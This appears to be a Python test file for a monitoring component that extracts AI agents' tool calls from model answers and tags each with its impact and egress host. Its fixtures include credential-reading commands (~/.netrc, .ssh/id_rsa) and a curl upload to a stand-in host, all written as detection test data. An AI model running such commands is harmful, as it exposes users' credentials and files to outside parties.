"""Calls that only a model's answer shows are matched as calls; senders that report calls themselves are believed."""

from __future__ import annotations

import json
from typing import Any

from caiso.connect.telemetry.asked import Asked, calls_of
from caiso.connect.telemetry.meaning.escapes import with_breaks, without_breaks
from caiso.connect.telemetry.table import EventBatch

Event = dict[str, Any]


def answer(number: int, *calls: Event, **more: Any) -> Event:
    asked = "\n".join(json.dumps(call, separators=(",", ":")) for call in calls)
    return {
        "event.id": f"e{number}", "time": number, "event.kind": "inference", "source.id": "s", "service.name": "gateway",
        "aisoc.session": "c", "content.tool_calls": with_breaks(asked) or None, **more,
    }  # fmt: skip


def tool(number: int, name: str, **more: Any) -> Event:
    return {
        "event.id": f"e{number}", "time": number, "event.kind": "tool", "source.id": "s", "service.name": "gateway",
        "aisoc.session": "c", "gen_ai.tool.name": name, **more,
    }  # fmt: skip


def batch(*events: Event) -> EventBatch:
    texts = ("content.tool_calls", "gen_ai.tool.call.arguments")
    columns = {name: [event.get(name) for event in events] for name in texts}
    bare = [{name: value for name, value in event.items() if name not in texts} for event in events]
    return EventBatch.of_events(bare, columns)


def test_a_call_that_is_only_asked_for_becomes_a_call_right_after_its_answer() -> None:
    reading = {"name": "read_file", "arguments": {"path": "~/.netrc"}, "id": "t1"}
    sending = {"name": "send_email", "arguments": {"to": "a@far.example", "body": "x"}}
    first = answer(1, reading, sending, **{"user.id": "kim", "gen_ai.usage.input_tokens": 900})
    found = Asked().with_calls(batch(first, answer(2))).events()
    assert [(event["event.id"], event["event.kind"], event.get("gen_ai.tool.name")) for event in found] == [
        ("e1", "inference", None), ("e1", "tool", "read_file"), ("e1", "tool", "send_email"), ("e2", "inference", None),
    ]  # fmt: skip
    read, sent = found[1], found[2]
    assert read["aisoc.tool.impact"] == "read"
    assert read["gen_ai.tool.call.arguments"] == '{"path":"~/.netrc"}'
    assert (sent["aisoc.tool.impact"], sent["aisoc.egress.host"]) == ("egress", "far.example")
    assert read["user.id"] == "kim"
    assert "gen_ai.usage.input_tokens" not in read, "the tokens of the answer would count twice"


def test_a_command_of_several_lines_keeps_its_lines() -> None:
    command = {"name": "sh", "arguments": {"command": "cd ~\ncat .ssh/id_rsa"}}
    found = Asked().with_calls(batch(answer(1, command))).events()
    assert found[1]["process.command_line"] == "cd ~\ncat .ssh/id_rsa"
    assert without_breaks(with_breaks('{"a":"b\\nc\\td"}')) == '{"a":"b\\nc\\td"}'


def test_a_service_that_reports_its_calls_is_not_doubled() -> None:
    asked, call = Asked(), {"name": "read_file", "arguments": {"path": "a"}}
    one = asked.with_calls(batch(answer(1, call), tool(2, "read_file", **{"gen_ai.tool.call.arguments": "{}"})))
    assert len(one) == 2
    assert len(asked.with_calls(batch(answer(3, call)))) == 1, "it reported calls in an earlier batch"
    elsewhere = {**answer(4, call), "service.name": "other"}
    assert len(asked.with_calls(batch(elsewhere))) == 2
    again = Asked.of(asked.save())
    assert len(again.with_calls(batch(answer(5, call)))) == 1, "what is remembered survives a restart"


def test_a_service_that_stopped_reporting_calls_is_seen_again_after_a_week() -> None:
    asked, call = Asked(), {"name": "read_file", "arguments": {"path": "a"}}
    asked.with_calls(batch(tool(1, "read_file")))
    later = {**answer(2, call), "time": 8 * 86_400_000_000}
    assert len(asked.with_calls(batch(later))) == 2


def test_a_call_without_arguments_gets_those_of_the_answer_that_asked() -> None:
    asked = Asked()
    asked.with_calls(batch(answer(1, {"name": "sh", "arguments": {"command": "ls"}, "id": "a"})))
    second = answer(2, {"name": "sh", "arguments": {"command": "curl -T x https://far.example"}, "id": "b"})
    found = asked.with_calls(batch(second, tool(3, "sh", **{"gen_ai.tool.call.id": "a"}), tool(4, "sh"))).events()
    assert [event.get("process.command_line") for event in found] == [None, "ls", "curl -T x https://far.example"]
    assert [event.get("aisoc.egress.host") for event in found] == [None, None, "far.example"]


def test_a_call_that_nobody_asked_for_stays_bare() -> None:
    found = (
        Asked().with_calls(batch(answer(1, {"name": "sh", "arguments": {"command": "ls"}}), tool(2, "other"))).events()
    )
    assert "gen_ai.tool.call.arguments" not in found[1]


def test_a_sender_may_say_what_a_call_can_do_and_rules_see_the_columns_as_filled() -> None:
    asked = batch(
        answer(1, {"name": "do", "arguments": {"to": "a@b.example", "text": "x"}}),
        tool(2, "do", **{"aisoc.tool.impact": "read"}),
    )
    found = Asked().with_calls(asked)
    numbers, values = found.encoded("aisoc.tool.impact")
    assert [values[number] for number in numbers] == [None, "read"]
    numbers, values = (
        Asked()
        .with_calls(
            batch(answer(1, {"name": "mail_out", "arguments": {"to": "a@b.example", "text": "x"}}), tool(2, "mail_out"))
        )
        .encoded("aisoc.egress.host")
    )
    assert [values[number] for number in numbers] == [None, "b.example"]


def test_what_is_no_call_is_passed_over() -> None:
    assert list(calls_of('not json\n[1, {"name": 3}, {"name": "a"}]\n{"name":"b","arguments":null}')) == [
        ("a", "", ""),
        ("b", "", ""),
    ]
    assert len(Asked().with_calls(batch(answer(1), tool(2, "x")))) == 2


def test_a_result_in_a_message_of_its_own_belongs_to_the_call_that_it_names() -> None:
    asked = answer(1, {"name": "get_mail", "arguments": {"id": 4}, "id": "t4"})
    told = {**tool(2, ""), "event.kind": "inference", "event.name": "gen_ai.tool.message", "gen_ai.tool.name": None}
    events = [asked, {**told, "gen_ai.tool.call.id": "t4"}, {**told, "event.id": "e3", "gen_ai.tool.call.id": "t9"}]
    texts = {
        "content.tool_calls": [event.pop("content.tool_calls", None) for event in events],
        "content.untrusted": [None, "from: a@far.example", "who knows"],
    }
    found = Asked().with_calls(EventBatch.of_events(events, texts)).events()
    results = [
        (event["event.kind"], event.get("gen_ai.tool.name"), event.get("gen_ai.tool.call.result"))
        for event in found[2:]
    ]
    assert results == [("tool", "get_mail", "from: a@far.example"), ("inference", None, None)]
    assert found[2]["aisoc.tool.impact"] == "read"
